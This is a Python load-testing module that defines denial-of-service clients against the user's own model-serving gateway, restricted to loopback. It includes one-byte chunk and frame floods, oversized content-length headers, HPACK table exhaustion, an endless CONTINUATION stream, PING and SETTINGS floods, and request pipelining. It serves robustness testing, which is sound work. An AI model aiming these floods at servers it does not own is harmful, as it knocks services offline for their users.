"""Clients that give a gateway much to do for little, each as one connection after the other.

Run as a module in a process of its own: `python -m loadtest.attacks NAME PORT SECONDS`. An attack
goes on with a new connection when the last was closed on it, until its time is up, and prints how
often and how much it sent. Only for servers of one's own: it connects to loopback alone.
"""

from __future__ import annotations

import contextlib
import itertools
import json
import sys
import time
from collections.abc import Callable
from typing import Final

import hpack

from loadtest import mlp
from loadtest.link import Closed, Link
from serving.http2 import frames as f

_POST: Final = (f"POST {mlp.INFER_PATH} HTTP/1.1\r\nHost: 127.0.0.1\r\n").encode()
_GET: Final = b"GET /v2/health/live HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
_PSEUDO: Final = [
    (":method", "POST"), (":scheme", "http"), (":path", mlp.INFER_PATH),
    (":authority", "127.0.0.1"),
]  # fmt: skip
_MOST: Final = 1000
"""Connections of one attack at most."""


def one_byte_chunks(link: Link) -> None:
    """8 MB of chunks of one byte."""
    link.send(_POST + b"Transfer-Encoding: chunked\r\n\r\n")
    link.send(b"1\r\n \r\n" * (8_000_000 // 6))
    link.send(b"0\r\n\r\n")
    link.pause(1)


def one_byte_frames(link: Link) -> None:
    """16 MB of DATA frames of one byte."""
    link.send(f.frame(f.HEADERS, f.END_HEADERS, 1, hpack.Encoder().encode(_PSEUDO)))
    piece, left = f.frame(f.DATA, 0, 1, b" "), 1_600_000
    while left:
        count = min(left, 10_000, link.credit(1))
        link.spend(1, count)
        link.send(piece * count)
        left -= count


def huge_lengths(link: Link) -> None:
    """1.6 MB of HEADERS that announce bodies far over the limit."""
    encoder, sent = hpack.Encoder(), 0
    for stream in itertools.count(1, 2000):
        frames = b"".join(
            f.frame(
                f.HEADERS, f.END_HEADERS, each,
                encoder.encode([*_PSEUDO, ("content-length", "999999999999")]),
            )
            for each in range(stream, stream + 2000, 2)
        )  # fmt: skip
        link.send(frames)
        sent += len(frames)
        if sent > 1_600_000:
            return


def new_header_lines(link: Link) -> None:
    """Thousands of requests with 80 headers each that nobody has sent before."""
    salt = time.monotonic_ns()
    for number in range(4000):
        lines = b"".join(b"x-%d-%d-%d: a\r\n" % (salt, number, each) for each in range(80))
        link.send(_GET[:-2] + lines + b"\r\n")


def new_header_fields(link: Link) -> None:
    """The same over HTTP/2, each a new entry of the server's table."""
    salt, encoder = time.monotonic_ns(), hpack.Encoder()
    get = [(":method", "GET"), *_PSEUDO[1:2], (":path", "/v2/health/live"), _PSEUDO[3]]
    for number in range(4000):
        fields = [*get, *((f"x-{salt}-{number}-{each}", "a") for each in range(80))]
        flags = f.END_HEADERS | f.END_STREAM
        link.send(f.frame(f.HEADERS, flags, 2 * number + 1, encoder.encode(fields)))


def continuations(link: Link) -> None:
    """A header block that does not end, a byte a frame."""
    link.send(f.frame(f.HEADERS, 0, 1, hpack.Encoder().encode(_PSEUDO)))
    for _ in range(100):
        link.send(
            (f.frame(f.CONTINUATION, 0, 1, b"\0") + f.frame(f.CONTINUATION, 0, 1, b"")) * 5000
        )


def pings(link: Link) -> None:
    """PING frames, each of which asks for an answer."""
    for _ in range(200):
        link.send(f.frame(f.PING, 0, 0, bytes(8)) * 5000)


def settings(link: Link) -> None:
    """SETTINGS frames, each of which asks for an answer."""
    for _ in range(200):
        link.send(f.settings({f.INITIAL_WINDOW_SIZE: 65535}) * 5000)


def pipelined(link: Link) -> None:
    """Requests of 50 bytes, one behind the other without waiting."""
    for _ in range(200):
        link.send(_GET * 5000)


ATTACKS: Final[dict[str, tuple[Callable[[Link], None], bool]]] = {
    "one-byte-chunks": (one_byte_chunks, False),
    "one-byte-frames": (one_byte_frames, True),
    "huge-lengths": (huge_lengths, True),
    "new-header-lines": (new_header_lines, False),
    "new-header-fields": (new_header_fields, True),
    "continuations": (continuations, True),
    "pings": (pings, True),
    "settings": (settings, True),
    "pipelined": (pipelined, False),
}
"""What each does to one connection, and whether that speaks HTTP/2."""


def run(name: str, port: int, seconds: float) -> dict[str, float]:
    """Attack for `seconds`; return how many connections it took and how much was sent."""
    attack, http2 = ATTACKS[name]
    ends, connections, sent = time.monotonic() + seconds, 0, 0
    while time.monotonic() < ends and connections < _MOST:
        connections += 1
        with contextlib.suppress(Closed, OSError), Link(port, ends, http2) as link:
            try:
                attack(link)
            finally:
                sent += link.sent
        time.sleep(0.001)
    return {"connections": connections, "sent_mb": round(sent / 1e6, 2)}


if __name__ == "__main__":
    print("attacking", flush=True)
    print(json.dumps(run(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))))
